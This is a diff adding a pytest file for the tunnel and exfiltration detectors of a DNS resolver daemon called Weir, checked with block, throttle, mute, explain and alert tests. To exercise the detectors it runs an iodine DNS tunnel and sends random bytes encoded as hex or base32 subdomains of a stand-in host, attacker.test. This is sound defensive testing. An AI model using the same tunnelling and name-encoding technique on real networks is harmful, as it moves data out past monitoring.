@@ -1,0 +1,235 @@
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""Detectors in the real daemon: a real tunnel (iodine), exfiltration, what goes on beside it, and
+what the operator is told and may say (status, explain, mute)."""
+import base64
+import os
+import random
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import threading
+import time
+
+import dns.message
+import dns.rcode
+import pytest
+
+sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "lab"))
+import resolvers  # noqa: E402
+
+WEIR = os.environ.get("WEIR", "build/weir")
+SERVER, BEHIND = "127.53.7.1", "127.53.7.2"  # where tunnel.test is delegated; iodined itself
+NAME_BYTES_MAX = 1000  # that may reach an attacker's server
+
+needs_tunnel = pytest.mark.skipif(
+    "WEIR_LAB_NAMESPACE" not in os.environ or os.getuid() != 0 or shutil.which("iodined") is None
+    or not os.path.exists("/dev/net/tun"), reason="needs root, iodine and /dev/net/tun")
+
+
+class Relay:
+    """Stands before iodined, and counts what reaches it: packets and bytes of their names."""
+
+    def __init__(self):
+        self.front = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.front.bind((SERVER, 53))
+        self.names, self.is_ending = [], False
+        self.thread = threading.Thread(target=self.run, daemon=True)
+        self.thread.start()
+
+    def run(self):
+        self.front.settimeout(0.2)
+        while not self.is_ending:
+            try:
+                wire, peer = self.front.recvfrom(65535)
+            except TimeoutError:
+                continue
+            end = 12
+            while end < len(wire) and wire[end] != 0:
+                end += wire[end] + 1
+            self.names.append(wire[12:end + 1])
+            threading.Thread(target=self.pass_on, args=(wire, peer), daemon=True).start()
+
+    def pass_on(self, wire, peer):
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+            s.settimeout(3)
+            s.sendto(wire, (BEHIND, 53))
+            try:
+                self.front.sendto(s.recv(65535), peer)
+            except OSError:
+                pass
+
+    def count(self):
+        """Packets, and bytes of different names."""
+        return len(self.names), sum(len(n) for n in set(n.lower() for n in self.names))
+
+    def stop(self):
+        self.is_ending = True
+        self.thread.join()
+        self.front.close()
+
+
+@pytest.fixture
+def relay():
+    r = Relay()
+    yield r
+    r.stop()
+
+
+@pytest.fixture
+def iodined(tmp_path):
+    with open(tmp_path / "iodined.log", "wb") as log:
+        p = subprocess.Popen(["iodined", "-f", "-c", "-P", "secret", "-l", BEHIND, "10.99.0.1/24", "tunnel.test"],
+                             stdout=log, stderr=log, stdin=subprocess.DEVNULL)
+    time.sleep(0.5)
+    assert p.poll() is None, (tmp_path / "iodined.log").read_text()
+    yield p
+    p.terminate()
+    p.wait()
+
+
+@pytest.fixture
+def start_on_53(lab, tmp_path):
+    """A Weir on an address of its own, port 53, which is where iodine asks."""
+    started = []
+
+    def start(config):
+        w = resolvers.Weir(lab, str(tmp_path / f"weir{len(started)}"), WEIR, 53, f"127.0.0.{77 + len(started)}",
+                           config=config)
+        os.makedirs(w.directory, exist_ok=True)
+        started.append(w)
+        w.start()
+        return w
+    yield start
+    for w in started:
+        w.stop()
+
+
+def run_iodine(weir, relay, tmp_path, qtype, limit_s, quiet_s=6):
+    """Until it has set itself up, or nothing has reached the server for a while; what it said."""
+    path = tmp_path / f"iodine-{qtype}.log"
+    with open(path, "wb") as log:
+        p = subprocess.Popen(["iodine", "-f", "-r", "-P", "secret", "-T", qtype, weir.address, "tunnel.test"],
+                             stdout=log, stderr=log, stdin=subprocess.DEVNULL, start_new_session=True)
+    end, last, last_at = time.monotonic() + limit_s, -1, time.monotonic()
+    while time.monotonic() < end and p.poll() is None:
+        n = relay.count()[0]
+        if n != last:
+            last, last_at = n, time.monotonic()
+        if "setup complete" in path.read_text(errors="replace") or time.monotonic() - last_at > quiet_s:
+            break
+        time.sleep(0.2)
+    if p.poll() is None:
+        os.killpg(p.pid, signal.SIGKILL)
+        p.wait()
+    return path.read_text(errors="replace")
+
+
+@needs_tunnel
+def test_without_detection_the_tunnel_works(start_on_53, relay, iodined, tmp_path):
+    """Or the tests below would show nothing."""
+    said = run_iodine(start_on_53({}), relay, tmp_path, "NULL", 40, 15)
+    assert "setup complete" in said, said
+
+
+@needs_tunnel
+@pytest.mark.parametrize("qtype", ["NULL", "PRIVATE", "TXT", "SRV", "MX", "CNAME", "A"])
+def test_iodine_never_gets_through(start_on_53, lab, relay, iodined, tmp_path, qtype):
+    weir = start_on_53({"detect": {"enable": True}})
+    said = run_iodine(weir, relay, tmp_path, qtype, 25)
+    packets, name_bytes = relay.count()
+    print(f"iodine {qtype}: {packets} packets, {name_bytes} bytes of names")
+    assert "setup complete" not in said, said
+    assert name_bytes <= NAME_BYTES_MAX, f"{packets} packets, {name_bytes} bytes of names"
+    # What the same client needs otherwise is there.
+    sites = [z.name for z in lab.zones if z.name.startswith("site")][:20]
+    assert len(sites) == 20
+    for name in sites:
+        assert weir.ask(name).rcode() == dns.rcode.NOERROR, name
+
+
+@pytest.fixture
+def watching(start_weir):
+    return start_weir(config={"detect": {"enable": True}})
+
+
+def leave(weir, domain, encode, n, size=24):
+    """Send random bytes out as names of a domain; how many rcodes of each kind came back."""
+    rng, rcodes = random.Random(4711), {}
+    for _ in range(n):
+        text = encode(rng.randbytes(size))
+        reply = weir.ask(f"{text}.{domain}", "A", timeout_s=5)
+        rcodes[reply.rcode()] = rcodes.get(reply.rcode(), 0) + 1
+    return rcodes
+
+
+def leaked(lab, mark):
+    return sum(len(name) for name in {e["name"] for e in lab.bad_log(mark, "attacker")})
+
+
+def hexadecimal(b):
+    return b.hex()
+
+
+def base32(b):
+    return base64.b32encode(b).decode().rstrip("=").lower()
+
+
+@pytest.mark.parametrize("encode", [hexadecimal, base32])
+def test_bulk_exfiltration_ends(watching, lab, encode):
+    mark = lab.bad_log_mark()
+    rcodes = leave(watching, "attacker.test", encode, 100)
+    assert leaked(lab, mark) <= NAME_BYTES_MAX
+    assert rcodes.get(dns.rcode.NXDOMAIN, 0) > 50  # blocked
+    assert rcodes.get(dns.rcode.NOERROR, 0) < 20
+    event = watching.wait_event(lambda e: e["weir"].get("trigger") == "detector")
+    finding = event["weir"]["detections"][0]
+    assert finding["detector"] == "leak" and finding["confidence"] == "high"
+    assert finding["action"] == "block" and finding["evidence"]["asked_bits"] > 2048
+    assert event["event"]["kind"] == "alert" and event["event"]["action"] == "blocked"
+    throttled = watching.wait_event(lambda e: e["event"]["action"] == "throttled")
+    assert throttled["weir"]["detections"][0]["confidence"] == "medium"
+    # Others of the same client go on.
+    assert watching.ask("site00.com").rcode() == dns.rcode.NOERROR
+
+
+def test_the_client_is_told_why(watching):
+    leave(watching, "attacker.test", hexadecimal, 80)
+    reply = watching.ask("0123456789abcdef0123456789abcdef.attacker.test")
+    texts = [o.text for o in reply.options if int(o.otype) == 15]
+    assert reply.rcode() == dns.rcode.NXDOMAIN and texts and "detector leak" in texts[0]
+
+
+def test_a_rule_goes_before_detectors(watching):
+    watching.cli("allow", "attacker.test", "--reason", "ours")
+    assert leave(watching, "attacker.test", hexadecimal, 80) == {dns.rcode.NOERROR: 80}
+    watching.cli("undo", "attacker.test")
+    assert dns.rcode.NXDOMAIN in leave(watching, "attacker.test", base32, 80)
+
+
+def test_mute_and_what_is_told(watching):
+    assert "No detector is muted" in watching.cli("mute").stdout
+    watching.cli("mute", "leak", "--zone", "attacker.test", "--reason", "a test", "--for", "1h")
+    assert "leak below attacker.test" in watching.cli("mute").stdout
+    assert leave(watching, "attacker.test", hexadecimal, 80) == {dns.rcode.NOERROR: 80}
+    assert watching.wait_event(lambda e: any(d.get("muted") for d in e["weir"].get("detections", [])))
+    told = watching.cli("explain", "x.attacker.test").stdout
+    assert "Detector leak: muted" in told and "of the budget is used up" in told
+    watching.restart()  # mutes are kept
+    assert "leak below attacker.test" in watching.cli("mute").stdout
+    watching.cli("mute", "leak", "--zone", "attacker.test", "--undo")
+    assert "No detector is muted" in watching.cli("mute").stdout
+    assert dns.rcode.NXDOMAIN in leave(watching, "attacker.test", base32, 80)
+    status = watching.cli("status").stdout
+    assert "leak:" in status and "blocked" in status
+    assert watching.cli("mute", "leek", "--zone", "x", "--reason", "y", "--for", "1h", check=False).returncode == 1
+    assert watching.cli("mute", "leak", "--zone", "x", check=False).returncode == 2
+
+
+def test_a_group_may_be_watched_only(start_weir):
+    weir = start_weir(config={"detect": {"enable": True}, "groups": [
+        {"name": "all", "clients": ["127.0.0.0/8"], "detect": ["leak=alert"]}]})
+    assert leave(weir, "attacker.test", hexadecimal, 80) == {dns.rcode.NOERROR: 80}
+    event = weir.wait_event(lambda e: e["event"]["action"] == "alerted")
+    assert event["event"]["kind"] == "alert" and event["weir"]["detections"][0]["action"] == "alert"
